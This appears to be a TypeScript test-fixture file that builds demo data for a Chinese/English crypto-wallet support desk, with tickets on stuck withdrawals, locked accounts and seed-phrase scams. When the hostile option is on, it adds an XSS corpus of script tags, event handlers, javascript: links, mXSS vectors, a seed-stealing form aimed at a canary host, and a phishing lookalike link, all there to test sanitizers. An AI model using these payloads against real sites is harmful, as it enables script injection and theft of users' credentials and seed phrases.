// Realistic zh/en support data for the fake shell: the situations of DESIGN.md §1
// (stuck confirmations, funds not arrived, locked accounts, seed-phrase scams, large
// withdrawals, "support does not reply"). Times are relative to `now`.
import { addBulk } from './bulk';
import { fixtureFiles } from './files';
import type {
  Agent,
  Category,
  Channel,
  Customer,
  Delivery,
  Incident,
  Macro,
  Message,
  MessageKind,
  Priority,
  Ticket,
  TicketStatus,
  WalletTransaction,
} from '../../src/lib/bindings';

export const DEMO_PASSWORD = 'desk-demo-pass';

export interface Dataset {
  me: Agent;
  agents: Agent[];
  macros: Macro[];
  incidents: Incident[];
  customers: Customer[];
  transactions: WalletTransaction[];
  tickets: Ticket[];
  messages: Message[];
  /** How the desk's public replies reached their customers, by message id. */
  deliveries: Delivery[];
  /** The bytes of every file a message carries, by address: what the server holds. */
  files: Map<string, Uint8Array>;
}

export interface DatasetOptions {
  now: number;
  /** Add a ticket whose subject, customer and messages carry markup and script. */
  hostile?: boolean;
  /** Add this many generated tickets (for virtual-list tests). */
  bulk?: number;
}

const MIN = 60_000;
const HOUR = 60 * MIN;
const DAY = 24 * HOUR;

export const ME: Agent = {
  id: 'agent-chen',
  name: 'Chen Jing',
  email: 'chen.jing@desk.example',
  role: 'supervisor',
  languages: ['zh-CN', 'en'],
  groups: [],
  skills: [],
  capacity: null,
};

const OMAR: Agent = {
  id: 'agent-omar',
  name: 'Omar Haddad',
  email: 'omar.haddad@desk.example',
  role: 'agent',
  languages: ['en'],
  groups: [],
  skills: ['transaction_confirmation', 'funds_not_arrived'],
  capacity: 40,
};

/** Works in the Chinese desk only: not offered for tickets of other groups. */
const LI_NA: Agent = {
  id: 'agent-lina',
  name: '李娜',
  email: 'li.na@desk.example',
  role: 'agent',
  languages: ['zh-CN'],
  groups: ['cn-support'],
  skills: ['account_locked', 'security'],
  capacity: 25,
};

/** Canned replies, with bodies per language and variables the composer fills. */
export const MACROS: Macro[] = [
  {
    id: 'macro-confirm',
    title: 'Confirm the withdrawal in the app / 在 App 中确认提币',
    bodies: {
      en: 'Hi {{customer.name}}, your withdrawal of {{transaction.amount}} {{transaction.asset}} on ticket {{ticket.number}} is waiting for your confirmation in the app.',
      'zh-CN': '{{customer.name}}您好，您在工单 {{ticket.number}} 中的 {{transaction.amount}} {{transaction.asset}} 提币正在等待您在 App 中确认。',
    },
    variables: ['customer.name', 'transaction.amount', 'transaction.asset', 'ticket.number'],
    // Applied with the reply it is inserted into: the ball is in the customer's court.
    actions: [
      { type: 'set_status', status: 'pending_customer' },
      { type: 'set_priority', priority: 'normal' },
      { type: 'add_tags', tags: ['guide'] },
    ],
    categories: ['transaction_confirmation'],
    updated_at: 1,
  },
  {
    id: 'macro-kyc',
    title: 'KYC documents needed',
    bodies: { en: 'Hi {{customer.name}}, please upload your ID. Your reference: {{kyc.reference}}.' },
    variables: ['customer.name', 'kyc.reference'],
    actions: [],
    categories: [],
    updated_at: 1,
  },
];

/** Where a hostile fixture would leave a mark if any of its markup ever ran. */
export const XSS_MARK = '__deskXss';

export function makeCustomer(now: number, c: Partial<Customer> & Pick<Customer, 'id' | 'name'>): Customer {
  return {
    platform_user_id: `U${c.id.replace(/\D/g, '').padStart(8, '7')}`,
    emails: [],
    phones: [],
    handles: [],
    preferred_language: 'en',
    tier: 'standard',
    kyc_level: 1,
    risk_flags: [],
    tags: [],
    notes: '',
    created_at: now - 400 * DAY,
    updated_at: now - DAY,
    ...c,
  };
}

function tx(now: number, t: Partial<WalletTransaction> & Pick<WalletTransaction, 'id' | 'customer_id'>): WalletTransaction {
  return {
    asset: 'USDT',
    chain: 'TRON',
    amount: '100.00',
    direction: 'withdrawal',
    tx_hash: null,
    status: 'confirmed',
    confirmations: 20,
    required_confirmations: 20,
    created_at: now - DAY,
    updated_at: now - DAY,
    ...t,
  };
}

interface TicketSpec {
  id: string;
  number: number | null;
  subject: string;
  customer_id: string;
  channel: Channel;
  status: TicketStatus;
  priority: Priority;
  category: Category;
  assignee_id: string | null;
  language: string;
  tags?: string[];
  linked?: string[];
  firstResponseIn?: number | null;
  resolutionIn?: number | null;
  createdAgo: number;
  group?: string | null;
  csat?: number | null;
}

type Spoken = [
  kind: MessageKind,
  author: 'customer' | Agent | 'system',
  ago: number,
  text: string,
  html?: string,
  quoted?: string,
];

/** An email as customers send them: formatting, a list, links, a quoted earlier message. */
export const EMAIL_HTML = [
  '<p>Hi,</p>',
  '<p>I sent <b>0.85 ETH</b> from my exchange account to my wallet about an hour ago. The exchange shows it as completed but I don’t see it in my wallet.</p>',
  '<ul><li>Tx hash: <code>0x9f2c4b7e…0ce41a</code></li><li>Network: Ethereum mainnet</li></ul>',
  '<p>I followed <a href="https://help.wallet.example/deposits#eth">your deposit guide</a> and checked <a href="https://etherscan.io/tx/0x9f2c4b7e0ce41a">https://etherscan.io/tx/0x9f2c4b7e0ce41a</a>. Can you check?</p>',
  '<blockquote>On Monday, Desk Support wrote: deposits usually arrive within 15 minutes.</blockquote>',
].join('');

/** Where the hostile corpus points every request it tries to make. */
export const CANARY = 'https://canary.desk.test';

/**
 * Hostile email HTML as if every wall before the UI had failed (the server's and the
 * shell's sanitizers): each vector would leave `XSS_MARK` on `window` or fetch `CANARY`.
 */
export const XSS_CORPUS_HTML = [
  `<p>Hello <b>team</b>, please log in at <a href="https://wallet-example.help/login">https://wallet.example/login</a> to see.</p>`,
  `<script>window.${XSS_MARK}='script'</script>`,
  `<img src="${CANARY}/img.gif" onerror="window.${XSS_MARK}='img'">`,
  `<svg onload="window.${XSS_MARK}='svg'"><script>window.${XSS_MARK}='svg-script'</script></svg>`,
  `<iframe src="${CANARY}/frame" srcdoc="<script>parent.${XSS_MARK}='srcdoc'</script>"></iframe>`,
  `<a href="javascript:window.${XSS_MARK}='js-link'" data-testid="js-link">js link</a>`,
  `<a href="data:text/html,<script>alert(1)</script>">data link</a>`,
  `<a href="https://wallet.example@${CANARY.slice(8)}/">userinfo link</a>`,
  `<div style="background:url(${CANARY}/css.png)" onmouseover="window.${XSS_MARK}='hover'" data-testid="hover-me">hover me</div>`,
  `<style>@import '${CANARY}/style.css'; body{background:url(${CANARY}/bg.png)}</style>`,
  `<link rel="stylesheet" href="${CANARY}/link.css"><link rel="prefetch" href="${CANARY}/prefetch">`,
  `<form action="${CANARY}/steal"><input name="seed" autofocus onfocus="window.${XSS_MARK}='focus'"><button formaction="${CANARY}/b">Verify wallet</button></form>`,
  `<object data="${CANARY}/obj"></object><embed src="${CANARY}/embed">`,
  `<video poster="${CANARY}/poster.png"><source src="${CANARY}/v.mp4" onerror="window.${XSS_MARK}='video'"></video>`,
  `<base href="${CANARY}/"><meta http-equiv="refresh" content="0;url=${CANARY}/refresh">`,
  `<table><tr><td colspan="2" onclick="window.${XSS_MARK}='td'" style="color:red">cell</td><td rowspan="x1">bad span</td></tr></table>`,
  `<details open ontoggle="window.${XSS_MARK}='toggle'"><summary>more</summary>hidden</details>`,
  `<p onclick="window.${XSS_MARK}='p'" class="x" id="app">end</p>`,
  // Last: parsers leave these open, and what follows goes with them.
  `<noscript><p title="</noscript><img src=x onerror=window.${XSS_MARK}='noscript'>"></noscript>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="window.${XSS_MARK}='mxss'"></style></mglyph></table></mtext></math>`,
].join('\n');

export function buildDataset({ now, hostile = false, bulk = 0 }: DatasetOptions): Dataset {
  const customers: Customer[] = [
    makeCustomer(now, {
      id: 'cust-1001',
      name: '王磊',
      emails: ['wang.lei@example.cn'],
      phones: ['+86 138 0013 8000'],
      handles: ['wechat:wanglei_88'],
      preferred_language: 'zh-CN',
      tier: 'vip',
      kyc_level: 2,
      tags: ['高净值', '偏好微信'],
      notes: '偏好微信联系；工作日晚上 8 点后不方便接电话。',
    }),
    makeCustomer(now, {
      id: 'cust-1002',
      name: 'Emily Carter',
      emails: ['emily.carter@example.com'],
      handles: ['telegram:@emilyc'],
      kyc_level: 1,
    }),
    makeCustomer(now, {
      id: 'cust-1003',
      name: '李娜',
      emails: ['lina.sz@example.cn'],
      phones: ['+86 139 2222 0147'],
      preferred_language: 'zh-CN',
      kyc_level: 2,
      risk_flags: ['multiple_failed_logins', 'new_device_login'],
    }),
    makeCustomer(now, {
      id: 'cust-1004',
      name: 'Marcus Bauer',
      emails: ['treasury@bauer-capital.example'],
      phones: ['+49 30 1234 5678'],
      tier: 'institutional',
      kyc_level: 3,
      tags: ['OTC desk'],
      notes: 'Pre-announces withdrawals above 100k USDT. Contact: treasury desk only.',
    }),
    makeCustomer(now, {
      id: 'cust-1005',
      name: '张伟',
      handles: ['telegram:@zhangwei_sh'],
      preferred_language: 'zh-CN',
      tier: 'vip',
      kyc_level: 2,
      risk_flags: ['seed_phrase_exposed'],
    }),
    makeCustomer(now, {
      id: 'cust-1006',
      name: 'Yuki Sato',
      emails: ['yuki.sato@example.jp'],
      kyc_level: 2,
    }),
    makeCustomer(now, {
      id: 'cust-1007',
      name: '刘洋',
      emails: ['liuyang@example.cn'],
      handles: ['wechat:liuyang_sz'],
      preferred_language: 'zh-CN',
      kyc_level: 1,
    }),
    makeCustomer(now, {
      id: 'cust-1008',
      name: '吴芳',
      phones: ['+86 137 5555 0199'],
      preferred_language: 'zh-CN',
      kyc_level: 1,
    }),
  ];

  const transactions: WalletTransaction[] = [
    tx(now, {
      id: 'tx-5001',
      customer_id: 'cust-1001',
      amount: '5000.00',
      tx_hash: 'b3c1f09a7d5e4e21a8f6c0d93b7e21f45a9c3d8e6f1b2a4c5d7e8f9a0b1c2d3e',
      status: 'awaiting_customer_confirmation',
      confirmations: 0,
      required_confirmations: 20,
      created_at: now - 20 * HOUR,
      updated_at: now - 25 * MIN,
    }),
    tx(now, {
      id: 'tx-5002',
      customer_id: 'cust-1001',
      amount: '1200.00',
      direction: 'deposit',
      tx_hash: '7a9e3c2b1d0f4e5a6b7c8d9e0f1a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c',
      created_at: now - 9 * DAY,
    }),
    tx(now, {
      id: 'tx-5003',
      customer_id: 'cust-1002',
      asset: 'ETH',
      chain: 'ETH',
      amount: '0.85',
      direction: 'deposit',
      tx_hash: '0x9f2c4b7e1a3d5c6b8e0f2a4c6e8b0d2f4a6c8e0b2d4f6a8c0e2b4d6f8a0ce41a',
      status: 'pending_chain',
      confirmations: 8,
      required_confirmations: 12,
      created_at: now - 55 * MIN,
      updated_at: now - 3 * MIN,
    }),
    tx(now, {
      id: 'tx-5004',
      customer_id: 'cust-1004',
      chain: 'ETH',
      amount: '250000.00',
      status: 'frozen',
      confirmations: 0,
      required_confirmations: 12,
      created_at: now - 5 * HOUR,
    }),
    tx(now, {
      id: 'tx-5005',
      customer_id: 'cust-1006',
      asset: 'BTC',
      chain: 'BTC',
      amount: '0.0421',
      tx_hash: 'e4d1c0b9a8f7e6d5c4b3a2918f7e6d5c4b3a29180f1e2d3c4b5a697887a6b5c4',
      status: 'failed',
      confirmations: 0,
      required_confirmations: 3,
      created_at: now - 26 * HOUR,
    }),
    tx(now, {
      id: 'tx-5006',
      customer_id: 'cust-1005',
      amount: '300.00',
      direction: 'transfer',
      tx_hash: '1f2e3d4c5b6a79880a1b2c3d4e5f60718293a4b5c6d7e8f90112233445566778',
      created_at: now - 3 * DAY,
    }),
    tx(now, {
      id: 'tx-5007',
      customer_id: 'cust-1008',
      asset: 'ETH',
      chain: 'ETH',
      amount: '1.2',
      tx_hash: '0x3c5e7a9b1d3f5a7c9e1b3d5f7a9c1e3b5d7f9a1c3e5b7d9f1a3c5e7b9d1f3a5c',
      status: 'awaiting_customer_confirmation',
      confirmations: 0,
      required_confirmations: 12,
      created_at: now - 7 * HOUR,
    }),
  ];

  const specs: TicketSpec[] = [
    {
      id: 't-1042',
      number: 1042,
      subject: '提币一直显示等待确认，是不是卡住了？',
      customer_id: 'cust-1001',
      channel: 'wechat',
      status: 'open',
      priority: 'high',
      category: 'transaction_confirmation',
      assignee_id: ME.id,
      language: 'zh-CN',
      tags: ['等待确认', '提币'],
      linked: ['tx-5001'],
      firstResponseIn: 20 * MIN,
      resolutionIn: 5 * HOUR,
      createdAgo: 3 * HOUR,
      group: 'cn-support',
    },
    {
      id: 't-1041',
      number: 1041,
      subject: 'Deposit of 0.85 ETH not showing in my wallet',
      customer_id: 'cust-1002',
      channel: 'email',
      status: 'new',
      priority: 'normal',
      category: 'funds_not_arrived',
      assignee_id: null,
      language: 'en',
      linked: ['tx-5003'],
      firstResponseIn: 3 * HOUR,
      resolutionIn: 24 * HOUR,
      createdAgo: 50 * MIN,
      group: 'global-support',
    },
    {
      id: 't-1040',
      number: 1040,
      subject: '账户被锁，无法登录，是不是被盗了？',
      customer_id: 'cust-1003',
      channel: 'chat',
      status: 'open',
      priority: 'urgent',
      category: 'account_locked',
      assignee_id: OMAR.id,
      language: 'zh-CN',
      tags: ['安全核验'],
      firstResponseIn: -10 * MIN,
      resolutionIn: 2 * HOUR,
      createdAgo: 70 * MIN,
    },
    {
      id: 't-1039',
      number: 1039,
      subject: 'Large USDT withdrawal tomorrow — pre-approval needed?',
      customer_id: 'cust-1004',
      channel: 'email',
      status: 'on_hold',
      priority: 'high',
      category: 'large_transaction',
      assignee_id: ME.id,
      language: 'en',
      tags: ['review'],
      linked: ['tx-5004'],
      resolutionIn: 20 * HOUR,
      createdAgo: 6 * HOUR,
    },
    {
      id: 't-1038',
      number: 1038,
      subject: '我把助记词发给了“客服”，资产还安全吗？',
      customer_id: 'cust-1005',
      channel: 'telegram',
      status: 'open',
      priority: 'urgent',
      category: 'security',
      assignee_id: ME.id,
      language: 'zh-CN',
      tags: ['助记词泄露', '冒充客服'],
      firstResponseIn: 45 * MIN,
      createdAgo: 2 * HOUR,
    },
    {
      id: 't-1037',
      number: 1037,
      subject: 'Withdrawal failed but BTC was deducted',
      customer_id: 'cust-1006',
      channel: 'web_form',
      status: 'pending_customer',
      priority: 'normal',
      category: 'funds_not_arrived',
      assignee_id: ME.id,
      language: 'en',
      linked: ['tx-5005'],
      createdAgo: 26 * HOUR,
    },
    {
      id: 't-1036',
      number: 1036,
      subject: '为什么客服一直不回复？已经发了三遍',
      customer_id: 'cust-1007',
      channel: 'web_form',
      status: 'new',
      priority: 'normal',
      category: 'complaint',
      assignee_id: null,
      language: 'zh-CN',
      firstResponseIn: 90 * MIN,
      createdAgo: 4 * HOUR,
    },
    {
      id: 't-1035',
      number: 1035,
      subject: '确认按钮在哪里？提币页面一直等待确认',
      customer_id: 'cust-1008',
      channel: 'chat',
      status: 'pending_customer',
      priority: 'normal',
      category: 'transaction_confirmation',
      assignee_id: null,
      language: 'zh-CN',
      linked: ['tx-5007'],
      createdAgo: 7 * HOUR,
    },
    {
      id: 't-1030',
      number: 1030,
      subject: 'How do I export my transaction history?',
      customer_id: 'cust-1002',
      channel: 'email',
      status: 'solved',
      priority: 'low',
      category: 'usage_help',
      assignee_id: OMAR.id,
      language: 'en',
      createdAgo: 3 * DAY,
      csat: 5,
    },
    {
      id: 't-1021',
      number: 1021,
      subject: '充值到账后余额显示不对',
      customer_id: 'cust-1005',
      channel: 'chat',
      status: 'closed',
      priority: 'normal',
      category: 'other',
      assignee_id: ME.id,
      language: 'zh-CN',
      createdAgo: 12 * DAY,
    },
    {
      id: 't-1012',
      number: 1012,
      subject: '提币地址填错了，还能追回吗？',
      customer_id: 'cust-1001',
      channel: 'wechat',
      status: 'closed',
      priority: 'high',
      category: 'funds_not_arrived',
      assignee_id: ME.id,
      language: 'zh-CN',
      createdAgo: 41 * DAY,
      csat: 4,
    },
    {
      id: 't-local-1',
      number: null,
      subject: 'Follow-up: confirmation guide resent to 王磊',
      customer_id: 'cust-1001',
      channel: 'phone',
      status: 'open',
      priority: 'low',
      category: 'transaction_confirmation',
      assignee_id: ME.id,
      language: 'zh-CN',
      createdAgo: 9 * HOUR,
    },
  ];

  const withFiles = fixtureFiles();
  const files = new Map([...withFiles.values()].flat().map((f): [string, Uint8Array] => [f.attachment.sha256, f.bytes]));

  const conversations: Record<string, Spoken[]> = {
    't-1042': [
      ['public_reply', 'customer', 3 * HOUR, '您好，我昨天晚上从钱包提了 5000 USDT 到交易所，到现在还显示“等待确认”，是不是卡住了？交易所那边也没到账。'],
      ['system_event', 'system', 2 * HOUR + 55 * MIN, '工单已分配给 Chen Jing'],
      ['public_reply', ME, 2 * HOUR + 40 * MIN, '王先生您好，感谢耐心等待。我查看了这笔提币：它在等您在 App 里确认，并没有卡在链上。\n\n请打开 App →「资产」→「待确认交易」，核对金额和地址后点击「确认」。确认后通常 1–3 分钟到账。'],
      ['internal_note', ME, 2 * HOUR + 30 * MIN, '客户是 VIP，之前两次都没找到确认按钮。如果 1 小时内仍未确认，打电话提醒一次（晚上 8 点前）。'],
      ['public_reply', 'customer', 25 * MIN, '我找到了「待确认交易」，但是点确认的时候提示“网络繁忙”，现在要怎么办？'],
    ],
    't-1041': [
      ['public_reply', 'customer', 50 * MIN, 'Hi, I sent 0.85 ETH from my exchange account to my wallet about an hour ago. The exchange shows it as completed but I don’t see it in my wallet.\n\nTx hash: 0x9f2c4b7e…0ce41a. Can you check?', EMAIL_HTML],
      ['system_event', 'system', 49 * MIN, 'Auto-acknowledgement sent: estimated reply within 2 hours'],
    ],
    't-1040': [
      ['public_reply', 'customer', 70 * MIN, '我的账户被锁了，一直提示“登录失败次数过多”。我根本没有尝试登录过！是不是被盗了？'],
      ['public_reply', OMAR, 40 * MIN, '您好，为了保护您的资产，账户已被临时锁定。我们需要先核验您的身份：请提供注册手机号后四位，以及最近一笔充值的金额。\n\n请勿向任何人（包括自称客服的人）提供助记词或私钥。'],
      ['internal_note', OMAR, 38 * MIN, 'Login attempts from a new device in another region. Verify identity before unlocking; unlock needs supervisor approval.'],
    ],
    't-1039': [
      [
        'public_reply',
        'customer',
        6 * HOUR,
        'We plan to withdraw 250,000 USDT (ERC-20) to our cold wallet tomorrow at 10:00 UTC. Please confirm the limits and whether pre-approval is required.',
        undefined,
        'On Thu, 3 Dec 2026 at 09:12, Desk Support <support@wallet.example> wrote:\n> Hello Marcus,\n> large withdrawals can be announced a day ahead so that the review does not delay them.\n> Best regards, the support team',
      ],
      ['public_reply', ME, 5 * HOUR, 'Hi Marcus, thanks for the heads-up. Withdrawals above 100,000 USDT go through a review. I have placed the transfer on hold pending approval and will update you within 2 hours.'],
      ['system_event', 'system', 5 * HOUR - 2 * MIN, 'Transaction tx-5004 frozen pending supervisor approval'],
    ],
    't-1038': [
      ['public_reply', 'customer', 2 * HOUR, '有人在电报群里冒充客服，让我把助记词发给他“验证钱包”。我发了 [已隐藏：疑似助记词] 之后才发现不对劲。我的资产还安全吗？'],
      ['system_event', 'system', 2 * HOUR - MIN, '已从该消息中隐藏疑似助记词，并已自动提醒客户'],
      ['public_reply', ME, 90 * MIN, '张先生您好，官方客服绝不会索要助记词或私钥。请立即创建一个新钱包，并把全部资产转入新钱包；旧钱包请不要再使用。我们已为您的账户开启额外的安全监控。'],
    ],
    't-1037': [
      ['public_reply', 'customer', 26 * HOUR, 'My BTC withdrawal failed but 0.0421 BTC was deducted from my balance. Please refund it.'],
      ['public_reply', ME, 20 * HOUR, 'Hi Yuki, the failed withdrawal is reversed automatically within 24 hours. Could you check your balance tomorrow and reply here to confirm it is back?'],
    ],
    't-1036': [
      ['public_reply', 'customer', 4 * HOUR, '我上周就提交了问题，到现在都没人回复！邮件、在线客服、网页表单都发了一遍。到底有没有人处理？'],
    ],
    't-1035': [
      ['public_reply', 'customer', 7 * HOUR, '你好，提币页面一直显示等待确认，确认按钮在哪里？'],
      ['system_event', 'system', 7 * HOUR - 5 * MIN, '已发送指引《如何确认提币》（B 版）'],
    ],
    't-1030': [
      ['public_reply', 'customer', 3 * DAY, 'How do I export my transaction history for my tax return?'],
      ['public_reply', OMAR, 3 * DAY - HOUR, 'Hi Emily, go to Settings → Records → Export and pick CSV. Let us know if anything is missing.'],
      ['system_event', 'system', 2 * DAY, 'Ticket solved'],
    ],
    't-1021': [['public_reply', 'customer', 12 * DAY, '充值到账后余额显示不对，少了 20 USDT。']],
    't-1012': [
      ['public_reply', 'customer', 41 * DAY, '我提币的时候地址最后几位填错了，钱还能追回来吗？'],
      ['public_reply', ME, 41 * DAY - 2 * HOUR, '王先生您好，链上转账一旦确认就无法撤回。我们已联系接收方交易所协助冻结，请留意后续通知。'],
      ['system_event', 'system', 38 * DAY, '工单已关闭'],
    ],
    't-local-1': [['internal_note', ME, 9 * HOUR, '电话回访：客户说没收到指引，已通过微信重新发送。']],
  };

  if (hostile) {
    customers.push(
      makeCustomer(now, {
        id: 'cust-6666',
        name: `<script>window.${XSS_MARK}='name'</script>Mallory`,
        notes: `<img src=x onerror="window.${XSS_MARK}='notes'">`,
        risk_flags: [`<b onmouseover="window.${XSS_MARK}='flag'">flag</b>`],
      }),
    );
    specs.unshift({
      id: 't-6666',
      number: 6666,
      subject: `<img src=x onerror="window.${XSS_MARK}='subject'">Refund please`,
      customer_id: 'cust-6666',
      channel: 'web_form',
      status: 'new',
      priority: 'normal',
      category: 'other',
      assignee_id: null,
      language: 'en',
      tags: [`<i>tag</i>`],
      createdAgo: 2 * MIN,
    });
    conversations['t-6666'] = [
      [
        'public_reply',
        'customer',
        MIN,
        `<img src=x onerror="window.${XSS_MARK}='img'"><script>window.${XSS_MARK}='script'</script>\nPlease click <a href="javascript:window.${XSS_MARK}='link'">here</a> & "quote"`,
      ],
    ];
  }

  if (hostile) {
    specs.unshift({
      id: 't-6667',
      number: 6667,
      subject: 'Your wallet will be suspended',
      customer_id: 'cust-6666',
      channel: 'email',
      status: 'new',
      priority: 'normal',
      category: 'other',
      assignee_id: null,
      language: 'en',
      createdAgo: MIN,
    });
    conversations['t-6667'] = [['public_reply', 'customer', MIN, 'Hello team, please log in to see.', XSS_CORPUS_HTML]];
    // A customer forwards the phishing mail they got, asking whether it is from us.
    specs.unshift({
      id: 't-6668',
      number: 6668,
      subject: '转发：您的钱包即将被冻结，是你们发的吗？',
      customer_id: 'cust-1003',
      channel: 'email',
      status: 'new',
      priority: 'high',
      category: 'other',
      assignee_id: null,
      language: 'zh-CN',
      createdAgo: 3 * MIN,
    });
    conversations['t-6668'] = [
      [
        'public_reply',
        'customer',
        3 * MIN,
        '这封邮件是你们发的吗？',
        '<p>这封邮件是你们发的吗？</p><blockquote><p>尊敬的用户：您的钱包因安全原因即将被冻结，请在 24 小时内点击 <a href="https://wallet-example.help/verify">https://wallet.example/verify</a> 完成验证。</p></blockquote>',
      ],
    ];
  }

  const tickets: Ticket[] = [];
  const messages: Message[] = [];
  for (const s of specs) {
    const spoken = conversations[s.id] ?? [];
    const last = spoken.length ? Math.min(...spoken.map((m) => m[2])) : s.createdAgo;
    tickets.push({
      id: s.id,
      number: s.number,
      subject: s.subject,
      customer_id: s.customer_id,
      channel: s.channel,
      status: s.status,
      priority: s.priority,
      category: s.category,
      tags: s.tags ?? [],
      assignee_id: s.assignee_id,
      group: s.group ?? null,
      language: s.language,
      first_response_due_at: s.firstResponseIn == null ? null : now + s.firstResponseIn,
      resolution_due_at: s.resolutionIn == null ? null : now + s.resolutionIn,
      linked_transaction_ids: s.linked ?? [],
      incident_id: null,
      merged_into: null,
      deleted_at: null,
      secret_exposed_at: null,
      csat: s.csat ?? null,
      created_at: now - s.createdAgo,
      updated_at: now - last,
      last_message_at: now - last,
    });
    const cust = customers.find((c) => c.id === s.customer_id);
    spoken.forEach(([kind, who, ago, text, html, quoted], i) => {
      messages.push({
        id: `${s.id}-m${i + 1}`,
        ticket_id: s.id,
        kind,
        author:
          who === 'customer'
            ? { kind: 'customer', id: s.customer_id, name: cust?.name ?? 'Customer' }
            : who === 'system'
              ? { kind: 'system', id: null, name: 'Desk' }
              : { kind: 'agent', id: who.id, name: who.name },
        body_text: text,
        body_html: html ?? null,
        attachments: (withFiles.get(`${s.id}-m${i + 1}`) ?? []).map((f) => f.attachment),
        created_at: now - ago,
        ...(quoted ? { quoted } : {}),
      });
    });
  }

  if (bulk > 0) addBulk(now, bulk, customers, tickets, messages, makeCustomer, [ME.id, OMAR.id]);

  // Each state of a delivery on a reply of the fixtures: sent, being sent, bounced, and
  // waiting to be retried after a transient failure.
  const delivery = (id: string, d: Partial<Delivery> & Pick<Delivery, 'channel' | 'state'>): Delivery => {
    const message = messages.find((m) => m.id === id);
    if (!message) throw new Error(`fixture delivery of unknown message ${id}`);
    return {
      id,
      ticket_id: message.ticket_id,
      recipient: null,
      mailbox: null,
      attempts: 1,
      error: null,
      created_at: message.created_at,
      updated_at: message.created_at + 4_000,
      sent_at: d.state === 'sent' ? message.created_at + 4_000 : null,
      next_attempt_at: null,
      ...d,
    };
  };
  const deliveries: Delivery[] = [
    delivery('t-1042-m3', { channel: 'wechat', recipient: 'wx-conv-7f3a21', state: 'sent' }),
    delivery('t-1040-m2', { channel: 'chat', recipient: 'chat-8841', state: 'sending' }),
    delivery('t-1039-m2', {
      channel: 'email',
      recipient: 'treasury@bauer-capital.example',
      state: 'failed',
      error: '550 5.1.1 <treasury@bauer-capital.example>: Recipient address rejected: User unknown',
    }),
    delivery('t-1038-m3', { channel: 'telegram', recipient: 'tg-559021', state: 'sent' }),
    delivery('t-1037-m2', {
      channel: 'email',
      recipient: 'yuki.sato@example.jp',
      state: 'queued',
      attempts: 2,
      error: '421 4.7.0 Too many connections, try again later',
      next_attempt_at: now + 12 * MIN,
    }),
    delivery('t-1030-m2', { channel: 'email', recipient: 'emily.carter@example.com', state: 'sent' }),
  ];

  // An outage the withdrawal-confirmation tickets belong to.
  const incidents: Incident[] = [
    {
      id: 'inc-tron',
      title: 'TRON 提币确认延迟 / TRON withdrawal confirmations delayed',
      status: 'investigating',
      affected: ['TRON withdrawals'],
      updates: [],
      started_at: now - 5 * HOUR,
      resolved_at: null,
    },
  ];
  for (const t of tickets) if (t.id === 't-1042' || t.id === 't-1035') t.incident_id = 'inc-tron';

  return {
    me: ME,
    agents: [ME, OMAR, LI_NA],
    macros: MACROS,
    incidents,
    customers,
    transactions,
    tickets,
    messages,
    deliveries,
    files,
  };
}
